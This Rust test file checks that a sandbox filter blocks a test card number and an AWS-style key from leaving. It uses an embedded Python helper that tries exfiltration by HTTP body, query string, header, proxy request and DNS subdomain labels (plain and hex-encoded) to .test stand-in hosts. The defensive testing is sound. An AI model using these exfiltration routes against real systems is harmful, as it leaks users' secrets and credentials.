//! What may not leave, under the filter of the promised file: a card number and a key, by every way that is read.

use serde_json::Value;

use crate::world::World;

const STRICT: &str = "prompt_filters: [\"禁止敏感信息輸出\"]\n";
const RULES: &str = "allowed_networks: [\"api.bank.test\", \"**.wild.test\"]\n";

/// Says, for a text, what became of it in a body, an address, a header field, a name, and a name in hex.
const EVERY_WAY: &str = r#"
def every_way(text):
    host = "api.bank.test"
    quoted = "".join(f"%{byte:02X}" for byte in text.encode())
    plain = text.replace(" ", "-").lower()
    coded = text.encode().hex()
    post = f"POST /x HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nContent-Length: {len(text)}\r\n\r\n{text}"
    field = f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nX-Note: {text}\r\n\r\n"
    absolute = f"GET http://{host}/?n={quoted} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
    return [
        exchange(host, 80, post)[0][:12],
        exchange(host, 80, get(host, "/?n=" + quoted))[0][:12],
        exchange(host, 80, field)[0][:12],
        exchange(*PROXY, absolute)[0][:12],
        query(plain + ".wild.test", 1)[0],
        query(coded[:20] + "." + coded[20:] + ".wild.test", 1)[0],
    ]
"#;

const CARD: &str = "4111 1111 1111 1111";

/// Whether all of these were refused: in HTTP by 403, in DNS by NXDOMAIN.
fn refused(said: &Value) -> bool {
    said.as_array().expect("a list").iter().all(|one| *one == "HTTP/1.1 403" || *one == 3)
}

#[test]
fn a_card_number_leaves_by_no_way_and_stands_in_no_record() {
    let Some(world) = World::new() else { return };
    let said = world.python_in(&format!("{STRICT}{RULES}"), &format!("{EVERY_WAY}\nsay(every_way('{CARD}'))"));
    assert!(refused(&said[0]), "{said:?}");
    let seen = world.seen();
    assert!(!seen.iter().any(|event| event["event"] == "request"), "{seen:?}");
    let refusals = world.refusals();
    assert!(refusals.len() >= 6 && refusals.iter().all(|line| line.contains("content-refused")), "{refusals:?}");
    for record in world.door() {
        let text = record.to_string();
        assert!(!text.contains("4111") && !text.contains("34313131"), "{text}");
        let found = text.contains("`card`") || record["result"] != "denied";
        assert!(found, "{text}");
    }
}

#[test]
fn a_key_leaves_by_no_way_that_keeps_its_case() {
    let Some(world) = World::new() else { return };
    let key = ["AKIA", "Z7QX3M5KPLW2RTYB"].concat();
    let script = format!("{EVERY_WAY}\nsay(every_way('{key}')[:4])");
    let said = world.python_in(&format!("{STRICT}{RULES}"), &script);
    assert!(refused(&said[0]), "{said:?}");
    assert!(!world.seen().iter().any(|event| event["event"] == "request"));
    for record in world.door() {
        let text = record.to_string();
        assert!(!text.contains("Z7QX3M5K"), "{text}");
    }
}

#[test]
fn another_text_leaves_and_so_does_the_card_where_nothing_is_asked_for() {
    let Some(world) = World::new() else { return };
    let all_well =
        |said: &Value| said.as_array().expect("a list").iter().all(|one| *one == "HTTP/1.1 200" || *one == 0);
    let said =
        world.python_in(&format!("{STRICT}{RULES}"), &format!("{EVERY_WAY}\nsay(every_way('order 4711 of today'))"));
    assert!(all_well(&said[0]), "{said:?}");
    let said = world.python_in(RULES, &format!("{EVERY_WAY}\nsay(every_way('{CARD}'))"));
    assert!(all_well(&said[0]), "{said:?}");
}

#[test]
fn what_cannot_be_read_does_not_leave() {
    let Some(world) = World::new() else { return };
    let script = r#"
host = "api.bank.test"
head = f"POST /x HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nContent-Length: 4\r\n"
say(exchange(host, 80, head + "Content-Encoding: gzip\r\n\r\nabcd")[0])
say(exchange(host, 80, head.encode() + b"\r\n\xff\xfe\x00\x01")[0])
"#;
    let said = world.python_in(&format!("{STRICT}{RULES}"), script);
    for (one, why) in said.iter().zip(["in the coding `gzip`", "no text in UTF-8"]) {
        let text = one.as_str().expect("a text");
        assert!(text.starts_with("HTTP/1.1 403 Forbidden") && text.contains(why), "{text}");
    }
    assert!(!world.seen().iter().any(|event| event["event"] == "request"));
}
